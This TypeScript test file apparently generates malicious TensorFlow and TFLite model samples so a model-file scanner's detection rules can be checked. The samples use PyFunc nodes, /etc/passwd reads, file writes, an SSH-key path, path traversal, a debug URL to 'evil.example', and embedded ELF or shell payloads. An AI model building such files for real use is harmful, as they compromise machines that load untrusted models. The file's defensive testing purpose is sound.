import { message } from '../helpers/protobuf-writer.js';
import { graph, metaGraph, savedModel, type WrittenNode } from '../helpers/tensorflow-writer.js';
import { elf } from '../helpers/executable-writer.js';
import { tflite } from '../helpers/flatbuffer-models.js';
import { readFileSync } from 'node:fs';
import { attack, cutOff, packed, renamed, reported, type Row } from './attack.js';
import { evil, shell } from './payloads.js';

const constant = (name: string, text: string): WrittenNode => ({ name, op: 'Const', constant: [text] });
const python: WrittenNode = { name: 'p', op: 'PyFunc', strings: { token: 'pyfunc_0' } };
const write: WrittenNode = { name: 'w', op: 'WriteFile', inputs: ['path', 'text'] };
const read: readonly WrittenNode[] = [
  constant('a', '/etc'),
  constant('b', 'passwd'),
  { name: 'path', op: 'StringJoin', inputs: ['a', 'b'], strings: { separator: '/' } },
  { name: 'r', op: 'ReadFile', inputs: ['path'] },
];
const network: WrittenNode = {
  name: 'd',
  op: 'DebugIdentityV3',
  strings: { debug_urls: 'grpc://evil.example' },
};
const own: WrittenNode = { name: 'o', op: 'AcmeRun' };

const numbers: WrittenNode = { name: 'weights', op: 'Const', content: elf() };
const vocabulary = constant('words', shell);

const model = (nodes: readonly WrittenNode[]): Uint8Array => savedModel(metaGraph(graph(nodes)));
const inModel = attack('saved_model.pb', model([python]), 'model/tensorflow-python-function');
const modelRow: Row = {
  format: 'TensorFlow SavedModel',
  cells: {
    code: inModel,
    indirect: [
      attack(
        'saved_model.pb',
        savedModel(metaGraph(graph([], { f: [write] }))),
        'model/tensorflow-file-write',
      ),
      attack('saved_model.pb', model(read), 'model/tensorflow-file-read'),
    ],
    reach: [
      attack('saved_model.pb', model([write]), 'model/tensorflow-file-write'),
      attack('saved_model.pb', model([network]), 'model/tensorflow-network-access'),
      attack(
        'saved_model.pb',
        savedModel(metaGraph(graph([]), [6, message([2, '../../x'])])),
        'model/asset-outside',
      ),
    ],
    foreign: reported('saved_model.pb', model([own]), 'model/tensorflow-custom-operator'),
    lie: attack(
      'saved_model.pb',
      savedModel(metaGraph(message([1, message([2, 'NoOp'], [1, 'e'], [2, 'WriteFile'])]))),
      'model/tensorflow-file-write',
    ),
    hidden: [
      attack('saved_model.pb', savedModel(metaGraph(graph([], { f: [numbers] }))), 'model/hidden-payload'),
      attack('saved_model.pb', model([vocabulary]), 'model/hidden-payload'),
      attack(
        'saved_model.pb',
        savedModel(metaGraph(graph([])), metaGraph(graph([write]))),
        'model/tensorflow-file-write',
      ),
    ],
    disguised: renamed(inModel, 'weights.bin'),
    cut: [
      cutOff(attack('saved_model.pb', model([write, own]), 'model/tensorflow-file-write', 'model/corrupt')),
      cutOff(
        attack(
          'saved_model.pb',
          savedModel(metaGraph(graph([], { f: [write, own] }))),
          'model/tensorflow-file-write',
          'model/corrupt',
        ),
      ),
    ],
    packed: packed(inModel),
  },
};

const frozen = attack('frozen.pb', graph([python]), 'model/tensorflow-python-function');
const frozenRow: Row = {
  format: 'TensorFlow frozen graph',
  cells: {
    code: [
      frozen,
      attack(
        'frozen.pbtxt',
        'node { op: "Py\\x46unc" attr { key: "token" value { s: "x" } } }',
        'model/tensorflow-python-function',
      ),
    ],
    indirect: [
      attack('frozen.pb', graph(read), 'model/tensorflow-file-read'),
      attack(
        'frozen.pb',
        graph([{ name: 'c', op: 'step' }], { step: [write] }),
        'model/tensorflow-file-write',
      ),
    ],
    reach: [
      attack('frozen.pb', graph([write]), 'model/tensorflow-file-write'),
      attack('frozen.pb', graph([network]), 'model/tensorflow-network-access'),
    ],
    foreign: reported('frozen.pb', graph([own]), 'model/tensorflow-custom-operator'),
    lie: attack(
      'frozen.pb',
      message([4, message([1, 5])], [1, message([2, 'NoOp'], [1, 'e'], [2, 'WriteFile'])]),
      'model/tensorflow-file-write',
    ),
    hidden: [
      attack('frozen.pb', graph([numbers]), 'model/hidden-payload'),
      attack('frozen.pb', graph([vocabulary]), 'model/hidden-payload'),
    ],
    disguised: renamed(frozen, 'weights.bin'),
    cut: cutOff(
      attack('frozen.pb', graph([python, own]), 'model/tensorflow-python-function', 'model/corrupt'),
    ),
    packed: packed(frozen),
  },
};

const asText = (nodes: string): string =>
  `meta_graphs { graph_def { library { function [{ }, { ${nodes} }] } } }`;
const inText = attack(
  'saved_model.pbtxt',
  asText('node_def { op: "Py\\x46unc" attr { key: "token" value { s: "x" } } }'),
  'model/tensorflow-python-function',
);
const textRow: Row = {
  format: 'TensorFlow graph as text',
  cells: {
    code: inText,
    indirect: attack(
      'graph.pbtxt',
      `node [{ name: "p" op: "Const" attr { value { tensor { tensor_content: "\\004/etc" } } key: "value" } },
        { op: "ReadFile" input: "p" }]`,
      'model/tensorflow-file-read',
    ),
    reach: [
      attack('saved_model.pbtxt', asText('node_def { op: "WriteFile" }'), 'model/tensorflow-file-write'),
      attack('model.meta', 'asset_file_def { filename: "../../x" }', 'model/asset-outside'),
    ],
    foreign: reported('graph.pbtxt', 'node { op: "AcmeRun" }', 'model/tensorflow-custom-operator'),
    hidden: attack(
      'graph.pbtxt',
      'node { op: "Const" attr { key: "value" value { tensor { tensor_content: "#!/bin/sh\\nid\\n" } } } }',
      'model/hidden-payload',
    ),
    disguised: [
      renamed(inText, 'notes.txt'),
      attack(
        'graph.pb',
        `${'# a comment that is longer than what a file is known by\n'.repeat(99)}node { op: "WriteFile" }`,
        'model/tensorflow-file-write',
      ),
    ],
    cut: cutOff(inText, 2),
    packed: packed(inText),
    bomb: attack('graph.pbtxt', Buffer.alloc(16 * 1024 * 1024 + 1, '#'), 'file/over-budget'),
  },
};

const restore: readonly WrittenNode[] = [
  constant('p', '/home/me/.ssh/id'),
  { name: 's', op: 'SaveV2', inputs: ['p'] },
];
const meta = attack('model.ckpt.meta', metaGraph(graph([python])), 'model/tensorflow-python-function');
const index = readFileSync(new URL('../fixtures/tensorflow/module/variables.index', import.meta.url));
const checkpointRow: Row = {
  format: 'TensorFlow checkpoint, MetaGraph',
  cells: {
    code: meta,
    indirect: attack('model.ckpt.meta', metaGraph(graph([], { f: [write] })), 'model/tensorflow-file-write'),
    reach: attack('model.ckpt.meta', metaGraph(graph(restore)), 'model/tensorflow-checkpoint-path'),
    foreign: reported('model.ckpt.meta', metaGraph(graph([own])), 'model/tensorflow-custom-operator'),
    lie: attack(
      'variables.index',
      Buffer.concat([index.subarray(0, 60), Buffer.alloc(60, 0xff), index.subarray(120)]),
      'model/unsupported-compression',
    ),
    disguised: renamed(meta, 'checkpoint'),
    hidden: attack('variables.data-00000-of-00001', elf(), 'model/disguised'),
    cut: [
      cutOff(
        attack(
          'model.ckpt.meta',
          metaGraph(graph([python, own])),
          'model/tensorflow-python-function',
          'model/corrupt',
        ),
      ),
      cutOff(attack('variables.index', index, 'model/corrupt')),
      cutOff(attack('model.ckpt-10.index', index, 'model/corrupt'), 100),
    ],
    packed: packed(meta),
  },
};

const flex = attack('model.tflite', tflite({ custom: ['FlexWriteFile'] }), 'model/tensorflow-file-write');
const tfliteRow: Row = {
  format: 'TensorFlow Lite',
  cells: {
    indirect: flex,
    reach: [flex, attack('model.tflite', tflite({ groups: ['../../w.bin'] }), 'model/asset-outside')],
    foreign: reported('model.tflite', tflite({ custom: ['AcmeRun'] }), 'model/tflite-custom-operator'),
    lie: [
      attack('model.tflite', tflite({ operators: [[9, []]] }), 'model/index-outside'),
      attack(
        'model.tflite',
        tflite({ buffers: [[undefined, { u64: 1e9 }, { u64: 8 }]] }),
        'model/tensor-layout',
      ),
    ],
    hidden: attack('model.tflite', tflite({ buffers: [[Buffer.from(shell)]] }), 'model/hidden-payload'),
    disguised: [renamed(flex, 'weights.bin'), attack('model.tflite', evil, 'model/disguised')],
    cut: { ...cutOff(flex, 2), rules: ['model/corrupt'] },
    packed: packed(flex),
    bomb: attack('model.tflite', Buffer.from('\xff\xff\xff\x7fTFL3', 'latin1'), 'model/corrupt'),
  },
};

export const tensorflowRows: readonly Row[] = [modelRow, frozenRow, textRow, checkpointRow, tfliteRow];
